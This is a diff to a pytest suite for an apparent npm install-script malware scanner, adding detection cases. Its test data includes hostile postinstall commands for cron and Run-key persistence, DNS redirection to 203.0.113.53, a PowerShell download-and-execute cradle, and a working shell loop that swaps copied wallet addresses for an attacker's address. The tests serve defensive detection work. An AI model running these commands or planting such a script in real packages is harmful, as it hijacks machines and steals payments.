@@ -280,12 +280,36 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("powershell -c \"Register-ScheduledTask -TaskName u -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Action $a\"", "install-script/scheduled-task"),
     ("launchctl load -w ~/Library/LaunchAgents/com.node.update.plist", "install-script/scheduled-task"),
     ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d node.exe /f", "install-script/scheduled-task"),
+    ("(crontab -l; echo \"@reboot nohup sh $HOME/.local/x.sh &\") | crontab -", "install-script/scheduled-task"),
+    ("cp upd.sh /etc/cron.d/node-upd", "install-script/scheduled-task"),
+    ("networksetup -setdnsservers Wi-Fi 203.0.113.53", "install-script/dns-tamper"),
+    ("printf 'nameserver 203.0.113.53' > /etc/resolv.conf", "install-script/dns-tamper"),
+    ("powershell -c \"Set-DnsClientServerAddress -InterfaceIndex 4 -ServerAddresses 203.0.113.53\"", "install-script/dns-tamper"),
     ("npm install -g openclaw@latest", "install-script/global-install"),
     ("yarn global add some-cli", "install-script/global-install"),
     ("powershell -NoP -C \"IEX ((New-Object Net.WebClient).DownloadString('https://x.example/s'))\"", "install-script/fetch-and-execute"),
 ])
 def test_persistence_global_installs_and_download_cradles(command, rule):
     assert rule in rules(artifact({"postinstall": command}))
+
+
+@pytest.mark.parametrize("command", ["crontab -l", "grep -q nameserver /etc/resolv.conf && echo online", "cat /etc/resolv.conf",
+                                     "resolvectl status"])
+def test_reading_cron_and_dns_settings_is_not_changing_them(command):
+    found = rules(artifact({"postinstall": command}))
+    assert "install-script/scheduled-task" not in found and "install-script/dns-tamper" not in found
+
+
+def test_shell_file_that_swaps_wallet_addresses_in_the_clipboard():
+    # Blind set 10's copy-paste-cli: a detached loop over pbpaste/xclip that writes back the attacker's address.
+    script = (b"#!/bin/sh\nE=0xFAKE00000000000000000000000000000000dEaD\nwhile :; do\n  c=\"$(pbpaste || xclip -selection clipboard -o)\"\n"
+              b"  if printf '%s' \"$c\" | grep -Eq '^0x[a-fA-F0-9]{40}$'; then printf '%s' \"$E\" | pbcopy; fi\n  sleep 1\ndone\n")
+    found = findings(artifact({"postinstall": "nohup sh scripts/c.sh >/dev/null 2>&1 &"}, {"scripts/c.sh": script}))
+    swap = next(f for f in found if f.rule == "install-script/clipboard-hijack")
+    assert swap.file == "scripts/c.sh" and swap.line == 5
+    # A script that only copies a generated value (no clipboard read, no address pattern) is not a swap.
+    copy = b"#!/bin/sh\nprintf '%s' \"$(node bin/token.js)\" | pbcopy\n"
+    assert "install-script/clipboard-hijack" not in rules(artifact({"postinstall": "sh c.sh"}, {"c.sh": copy}))
 
 
 @pytest.mark.parametrize("command", ["npm install --no-save ./vendor/addon", "npm run build -- --global-style", "node-gyp rebuild"])
